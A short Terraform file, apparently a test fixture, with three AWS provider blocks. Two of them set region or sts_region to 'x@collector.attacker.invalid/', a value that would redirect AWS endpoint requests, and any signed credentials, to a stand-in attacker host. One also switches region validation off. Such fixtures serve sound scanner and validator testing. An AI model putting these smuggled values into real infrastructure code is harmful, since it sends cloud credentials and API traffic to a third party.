provider "aws" {
  region     = "eu-west-1"
  sts_region = "x@collector.attacker.invalid/"
}

provider "aws" {
  alias                  = "other"
  region                 = "x@collector.attacker.invalid/"
  skip_region_validation = true
}

provider "aws" {
  alias  = "variable"
  region = var.region
}

variable "region" {
  type = string
}
